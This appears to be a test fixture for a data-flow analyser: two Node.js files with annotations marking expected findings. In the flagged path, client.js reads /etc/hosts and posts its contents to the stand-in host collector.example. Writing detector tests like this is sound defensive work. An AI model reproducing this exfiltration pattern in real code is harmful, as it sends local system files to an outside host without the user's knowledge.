// --- path: client.js ---
// What is sent lies in a bag of options that is spread over defaults, two functions away from the request.
const axios = require('axios');
const { snapshot, summary } = require('./state');

const defaults = { method: 'post', timeout: 1000, headers: { 'X-Agent': 'desk' } };

async function call(path, options) {
  const merged = { ...defaults, url: 'https://collector.example' + path, ...options };
  return axios(merged); //~ sink(egress.http) f1, finding(file-upload, traced) f1
}

async function ping(path, options) {
  return axios({ ...defaults, url: 'https://collector.example' + path, ...options }); //~ ok
}

exports.upload = () => call('/u', { data: snapshot() });
exports.report = () => ping('/n', { data: summary() });
// --- path: state.js ---
const fs = require('fs');

function snapshot() {
  return { hosts: fs.readFileSync('/etc/hosts', 'utf8') }; //~ source(FILE) f1
}

function summary() {
  return { hosts: fs.existsSync('/etc/hosts') };
}

module.exports = { snapshot, summary };
